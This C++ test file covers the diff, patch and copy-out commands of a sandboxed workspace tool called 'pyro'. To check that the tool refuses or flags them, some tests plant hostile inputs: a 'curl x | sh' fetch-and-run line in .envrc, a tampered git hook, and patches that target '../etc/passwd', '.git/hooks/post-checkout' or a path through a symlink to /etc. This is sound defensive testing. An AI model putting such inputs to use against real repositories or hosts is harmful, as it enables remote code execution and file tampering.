// The files of workspaces: differences, patches, copies out.
#include <gmock/gmock.h>

#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "scenarios/workspaces/workspace_harness.h"

namespace pyro::testing {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::Not;

class WorkspaceDiffTest : public WorkspaceHarness {
 protected:
  [[nodiscard]] fs::path seed() const { return dir_ / "seed"; }

  void create_from_seed() const {
    write_file(seed() / "kept", "kept\n");
    write_file(seed() / "src/changed.c", "one\ntwo\nthree\n");
    write_file(seed() / "src/removed.c", "gone\n");
    write_file(seed() / "src/moved/file", "moved\n");
    write_file(seed() / "run.sh", "#!/bin/sh\n");
    create("w", {"--from", seed().string()});
  }

  [[nodiscard]] std::string diff(const Words& options = {}) const {
    Words words{"workspace", "diff", "w"};
    words.insert(words.end(), options.begin(), options.end());
    return pyro_ok(words).out;
  }
};

TEST_F(WorkspaceDiffTest, NothingIsChangedAtFirst) {
  create_from_seed();
  EXPECT_EQ(diff(), "");
  script("touch kept; chmod 600 kept; mkdir empty; cat src/changed.c > x && mv x src/changed.c");
  EXPECT_EQ(diff(), "") << "times, and what Git does not know of";
}

TEST_F(WorkspaceDiffTest, PatchMakesTheSeedWhatTheWorkspaceIs) {
  create_from_seed();
  script(
      "sed -i s/two/2/ src/changed.c; rm src/removed.c; mv src/moved src/away; echo new > 'a new'; "
      "ln -s /etc/passwd link; chmod +x run.sh; printf 'no end' > tail; mkdir -p deep/er; "
      "printf 'a\\r\\nb\\r\\n' > deep/er/crlf; mkdir .git; echo x > .git/config");
  const std::string patch = diff();
  EXPECT_THAT(patch, HasSubstr("diff --git a/src/changed.c b/src/changed.c\n"));
  EXPECT_THAT(patch, HasSubstr("-two\n+2\n"));
  EXPECT_THAT(patch, HasSubstr("diff --git a/src/removed.c b/src/removed.c\ndeleted file mode"));
  expect_hides(patch, {"kept", ".git/config"});
  write_file(dir_ / "patch", patch);
  run_checked({.argv = {"git", "apply", "--verbose", (dir_ / "patch").string()}, .cwd = seed()});
  EXPECT_EQ(content_of(seed() / "src/changed.c"), "one\n2\nthree\n");
  EXPECT_FALSE(fs::exists(seed() / "src/removed.c"));
  EXPECT_EQ(content_of(seed() / "src/away/file"), "moved\n");
  EXPECT_FALSE(fs::exists(seed() / "src/moved/file"));
  EXPECT_EQ(content_of(seed() / "a new"), "new\n");
  EXPECT_EQ(fs::read_symlink(seed() / "link"), "/etc/passwd");
  EXPECT_EQ(content_of(seed() / "tail"), "no end");
  EXPECT_EQ(content_of(seed() / "deep/er/crlf"), "a\r\nb\r\n");
  EXPECT_NE(fs::status(seed() / "run.sh").permissions() & fs::perms::owner_exec, fs::perms::none);
  pyro_ok({"workspace", "stop", "w"});
  EXPECT_EQ(diff(), patch) << "as after a start from the disk";
}

TEST_F(WorkspaceDiffTest, NamesAndCountsAreListed) {
  create_from_seed();
  script(
      "sed -i s/two/2/ src/changed.c; rm -r src/moved; mkdir src/moved; echo b > src/moved/b; "
      "printf '\\0' > binary");
  EXPECT_EQ(diff({"--name-only"}), "binary\nsrc/changed.c\nsrc/moved/b\nsrc/moved/file\n");
  EXPECT_EQ(diff({"--name-only", "src/moved", "/workspace/binary"}),
            "binary\nsrc/moved/b\nsrc/moved/file\n");
  const std::string stat = diff({"--stat"});
  EXPECT_THAT(stat, ::testing::ContainsRegex("src/changed.c +1 +1"));
  EXPECT_THAT(stat, ::testing::ContainsRegex("binary +- +-"));
  EXPECT_EQ(pyro({"workspace", "diff", "w", "../etc"}).exit_code, 2);
}

TEST_F(WorkspaceDiffTest, WholeTreeThatWasReplacedIsCompared) {
  create_from_seed();
  script("mv src old; mkdir src; cp old/changed.c src/; echo more >> old/removed.c");
  EXPECT_EQ(diff({"--name-only"}),
            "old/changed.c\nold/moved/file\nold/removed.c\nsrc/moved/file\nsrc/removed.c\n");
}

TEST_F(WorkspaceDiffTest, SnapshotsAreComparedWith) {
  create_from_seed();
  script("sed -i s/one/1/ src/changed.c; rm src/removed.c; echo a > only-then; echo b > both");
  pyro_ok({"workspace", "snapshot", "w", "one"});
  script(
      "sed -i s/two/2/ src/changed.c; sed -i s/kept/lost/ kept; rm only-then; echo c > only-now; "
      "echo gone > src/removed.c");
  EXPECT_EQ(diff({"--against", "one", "--name-only"}),
            "kept\nonly-now\nonly-then\nsrc/changed.c\nsrc/removed.c\n");
  const std::string patch = diff({"--against", "one"});
  EXPECT_THAT(patch, HasSubstr(" 1\n-two\n+2\n three\n"));
  EXPECT_THAT(patch, HasSubstr("-kept\n+lost\n"));
  EXPECT_THAT(patch, HasSubstr("+gone\n"));
  EXPECT_THAT(diff(), Not(HasSubstr("removed.c"))) << "it is again as at the beginning";
  EXPECT_EQ(diff({"--against", "one", "--name-only", "kept"}), "kept\n");
  EXPECT_EQ(pyro({"workspace", "diff", "w", "--against", "none"}).exit_code, 3);
  EXPECT_TRUE(eventually([&] { return entries() == Words{"w"}; })) << "the machine for it is gone";
  EXPECT_THAT(snapshots(), ElementsAre("baseline", "one"));
}

TEST_F(WorkspaceDiffTest, WholeSystemIsCompared) {
  create_from_seed();
  EXPECT_EQ(diff({"--all"}), "") << "what pyro writes at each start is left out";
  script("echo new > /etc/new; mkdir -p /opt/tool; echo tool > /opt/tool/run; echo x > file");
  EXPECT_EQ(diff({"--all", "--name-only"}), "etc/new\nopt/tool/run\nworkspace/file\n");
  EXPECT_EQ(diff({"--all", "--name-only", "/etc"}), "etc/new\n");
  EXPECT_EQ(diff({"--all", "--name-only", "file"}), "workspace/file\n");
  EXPECT_THAT(diff({"--all"}), HasSubstr("+++ b/opt/tool/run\n"));
  script("rm /bin/busybox-not-there /etc/passwd");
  EXPECT_THAT(diff({"--all", "/etc"}), HasSubstr("deleted file mode")) << "of the environment";
}

TEST_F(WorkspaceDiffTest, SummaryTellsWhatWasDone) {
  create_from_seed();
  EXPECT_THAT(pyro_ok({"workspace", "summary", "w"}).out,
              HasSubstr("No file of /workspace differs from the baseline.\n"));
  script("sed -i s/two/2/ src/changed.c; exit 3");
  pyro_ok({"workspace", "snapshot", "w", "one"});
  const std::string text = pyro_ok({"workspace", "summary", "w"}).out;
  EXPECT_THAT(text, HasSubstr("baseline, one\n"));
  EXPECT_THAT(text, ::testing::ContainsRegex("src/changed.c +1 +1"));
  EXPECT_THAT(text, ::testing::ContainsRegex("exit 3 .* sed -i"));
  const json summary = pyro_json({"workspace", "summary", "w"});
  EXPECT_EQ(summary["files"][0]["path"], "src/changed.c");
  EXPECT_EQ(summary["workspace"]["unexported_changes"], true);
}

class WorkspacePatchTest : public WorkspaceDiffTest {
 protected:
  [[nodiscard]] ProcessResult patch(const std::string& text) const {
    Command made = command({"workspace", "patch", "w"});
    made.stdin_text = text;
    return run(made);
  }

  void expect_refused(const std::string& text, int code, const std::string& why) const {
    const ProcessResult refused = patch(text);
    EXPECT_EQ(refused.exit_code, code) << refused.err;
    EXPECT_THAT(refused.err, HasSubstr(why));
    EXPECT_EQ(diff(), "");
    EXPECT_EQ(script("ls -A").out, "kept\nrun.sh\nsrc\n") << "no litter";
  }
};

TEST_F(WorkspacePatchTest, DifferenceOfOneWorkspaceIsAppliedToAnother) {
  create_from_seed();
  pyro_ok({"workspace", "fork", "w", "other"});
  script_in("other",
            "sed -i s/two/2/ src/changed.c; rm -r src/moved src/removed.c; mkdir -p a/b; "
            "printf 'a\\r\\nb' > a/b/crlf; ln -s away link; chmod +x kept");
  const std::string wanted = pyro_ok({"workspace", "diff", "other"}).out;
  script("chmod 640 src/changed.c; chown 7:8 src/changed.c");
  const ProcessResult patched = patch(wanted);
  EXPECT_EQ(patched.exit_code, 0) << patched.err;
  EXPECT_EQ(patched.out, "a/b/crlf\nkept\nlink\nsrc/changed.c\nsrc/moved/file\nsrc/removed.c\n");
  EXPECT_EQ(diff(), wanted);
  EXPECT_EQ(script("stat -c '%a %u %g' src/changed.c; stat -c %a kept; ls src").out,
            "640 7 8\n755\nchanged.c\n");
  const ProcessResult again = patch(wanted);
  EXPECT_EQ(again.exit_code, 1);
  EXPECT_THAT(again.err, HasSubstr("the patch does not apply"));
  EXPECT_EQ(diff(), wanted);
}

TEST_F(WorkspacePatchTest, RenamesAndBinaryHunksAreApplied) {
  create_from_seed();
  write_file(dir_ / "repository/run.sh", "#!/bin/sh\n");
  const auto git = [&](const Words& words) {
    Words all{"git", "-c", "user.name=n", "-c", "user.email=e"};
    all.insert(all.end(), words.begin(), words.end());
    return run_checked({.argv = all, .cwd = dir_ / "repository"}).out;
  };
  git({"init", "-q"});
  git({"add", "-A"});
  git({"commit", "-qm", "one"});
  git({"mv", "run.sh", "start.sh"});
  write_file(dir_ / "repository/binary", std::string("\0\1\2", 3));
  git({"add", "-A"});
  const std::string made = git({"diff", "--cached", "--binary", "-M"});
  EXPECT_THAT(made, HasSubstr("GIT binary patch"));
  EXPECT_THAT(made, HasSubstr("rename from run.sh"));
  const ProcessResult patched = patch(made);
  EXPECT_EQ(patched.exit_code, 0) << patched.err;
  EXPECT_EQ(script("ls; od -An -tx1 binary").out, "binary\nkept\nsrc\nstart.sh\n 00 01 02\n");
}

TEST_F(WorkspacePatchTest, ImpossiblePatchChangesNothing) {
  create_from_seed();
  const std::string good = "--- a/kept\n+++ b/kept\n@@ -1 +1 @@\n-kept\n+new\n";
  expect_refused(good +
                     "--- a/src/changed.c\n+++ b/src/changed.c\n@@ -1,3 +1,3 @@\n one\n-2\n"
                     "+3\n three\n",
                 1, "the patch does not apply: patch failed: src/changed.c:1");
  expect_refused("--- a/none\n+++ b/none\n@@ -1 +1 @@\n-a\n+b\n", 1, "none");
  expect_refused("no patch\n", 2, "this is no patch");
  expect_refused("", 2, "this is no patch");
  expect_refused("--- a/../etc/passwd\n+++ b/../etc/passwd\n@@ -1 +1 @@\n-a\n+b\n", 2,
                 "the patch changes '../etc/passwd'");
  expect_refused("--- /dev/null\n+++ b/.git/hooks/post-checkout\n@@ -0,0 +1 @@\n+b\n", 2,
                 "the patch changes '.git/hooks/post-checkout'");
  expect_refused("--- a/kept\r\n+++ b/kept\r\n@@ -1 +1 @@\r\n-kept\r\n+new\r\n", 1, "kept");
}

TEST_F(WorkspacePatchTest, PatchThatDoesNotFitChangesNothing) {
  create_from_seed();
  script("dd if=/dev/zero of=/fill bs=64k 2>/dev/null; sync; rm kept");
  std::string lines;
  for (int i = 0; i < 100'000; ++i) lines += "+a line of a file that does not fit\n";
  const ProcessResult refused = patch(
      "--- a/src/changed.c\n+++ b/src/changed.c\n@@ -1,3 +1,3 @@\n one\n-two\n+2\n three\n"
      "--- /dev/null\n+++ b/big\n@@ -0,0 +1,100000 @@\n" +
      lines);
  EXPECT_EQ(refused.exit_code, 1);
  EXPECT_THAT(refused.err, HasSubstr("No space left on device"));
  script("rm /fill");
  EXPECT_EQ(script("ls -A; cat src/changed.c").out, "run.sh\nsrc\none\ntwo\nthree\n");
}

TEST_F(WorkspacePatchTest, PathThroughLinkIsRefused) {
  create_from_seed();
  script("ln -s /etc link");
  const ProcessResult refused =
      patch("--- a/link/passwd\n+++ b/link/passwd\n@@ -1 +1 @@\n-a\n+b\n");
  EXPECT_EQ(refused.exit_code, 1);
  EXPECT_THAT(refused.err, HasSubstr("Too many levels of symbolic links"));
}

class WorkspaceCopyOutTest : public WorkspaceHarness {
 protected:
  [[nodiscard]] fs::path checkout() const { return dir_ / "checkout"; }

  void create_from_checkout() const {
    write_file(checkout() / "main.c", "int main;\n");
    write_file(checkout() / "other.c", "int other;\n");
    write_file(checkout() / ".envrc", "export A=1\n");
    run_checked({.argv = {"git", "init", "-q"}, .cwd = checkout()});
    write_file(checkout() / ".git/hooks/marker", "of the host\n");
    create("w", {"--from", checkout().string(), "--all"});
  }

  [[nodiscard]] ProcessResult copy_out(const Words& options = {},
                                       const std::string& from = "/workspace/.") const {
    Words words{"workspace", "copy-out", "w", from, checkout().string()};
    words.insert(words.end(), options.begin(), options.end());
    return pyro(words);
  }
};

TEST_F(WorkspaceCopyOutTest, CheckoutGetsNoGitAndHearsWhatMayRun) {
  create_from_checkout();
  script(
      "echo evil > .git/hooks/marker; echo 'curl x | sh' > .envrc; mkdir -p .vscode sub/.git; "
      "echo '{}' > .vscode/tasks.json; echo x > sub/.git/config; echo y > sub/.GIT; "
      "echo 'int changed;' > main.c");
  const ProcessResult copied = copy_out();
  EXPECT_EQ(copied.exit_code, 0) << copied.err;
  EXPECT_THAT(copied.err, HasSubstr("left out: .git\n"));
  EXPECT_THAT(copied.err, HasSubstr("left out: sub/.git\n"));
  EXPECT_THAT(copied.err, HasSubstr("left out: sub/.GIT\n"));
  EXPECT_THAT(copied.err, HasSubstr("may run by itself: .envrc\n"));
  EXPECT_THAT(copied.err, HasSubstr("may run by itself: .vscode/tasks.json\n"));
  EXPECT_EQ(content_of(checkout() / ".git/hooks/marker"), "of the host\n");
  EXPECT_EQ(content_of(checkout() / "main.c"), "int changed;\n");
  EXPECT_FALSE(fs::exists(checkout() / "sub/.git"));
  const ProcessResult again = copy_out();
  EXPECT_EQ(again.exit_code, 0) << again.err;
  EXPECT_THAT(again.err, Not(HasSubstr("may run"))) << "nothing is new";
  const ProcessResult into_git = pyro(
      {"workspace", "copy-out", "w", ".envrc", (checkout() / ".git/hooks/post-checkout").string()});
  EXPECT_EQ(into_git.exit_code, 2) << into_git.err;
  EXPECT_FALSE(fs::exists(checkout() / ".git/hooks/post-checkout"));
  EXPECT_EQ(copy_out({"--include-git"}).exit_code, 0);
  EXPECT_EQ(content_of(checkout() / ".git/hooks/marker"), "evil\n");
  EXPECT_EQ(content_of(checkout() / "sub/.git/config"), "x\n");
}

TEST_F(WorkspaceCopyOutTest, FilesChangedOnHostAreLeftAlone) {
  create_from_checkout();
  script("echo guest > main.c; echo guest > other.c; echo guest > new.c");
  write_file(checkout() / "main.c", "of the user\n");
  write_file(checkout() / "new.c", "of the user, too\n");
  const ProcessResult copied = copy_out();
  EXPECT_EQ(copied.exit_code, 1);
  EXPECT_THAT(copied.err, HasSubstr("left alone: " + (checkout() / "main.c").string()));
  EXPECT_THAT(copied.err, HasSubstr("2 files were changed on this host"));
  EXPECT_EQ(content_of(checkout() / "main.c"), "of the user\n");
  EXPECT_EQ(content_of(checkout() / "new.c"), "of the user, too\n");
  EXPECT_EQ(content_of(checkout() / "other.c"), "guest\n");
  script("echo again > other.c");
  EXPECT_EQ(copy_out({}, "other.c").exit_code, 0) << "it was copied out before";
  EXPECT_EQ(content_of(checkout() / "other.c"), "again\n");
  EXPECT_EQ(copy_out({"--force"}).exit_code, 0);
  EXPECT_EQ(content_of(checkout() / "main.c"), "guest\n");
  EXPECT_EQ(copy_out().exit_code, 0);
}

TEST_F(WorkspaceCopyOutTest, OtherDirectoriesAreAsWithCp) {
  create_from_checkout();
  write_file(dir_ / "elsewhere/main.c", "of the user\n");
  pyro_ok({"workspace", "copy-out", "w", "/workspace/.", (dir_ / "elsewhere").string()});
  EXPECT_EQ(content_of(dir_ / "elsewhere/main.c"), "int main;\n");
  EXPECT_EQ(content_of(dir_ / "elsewhere/.git/hooks/marker"), "of the host\n");
}

}  // namespace
}  // namespace pyro::testing
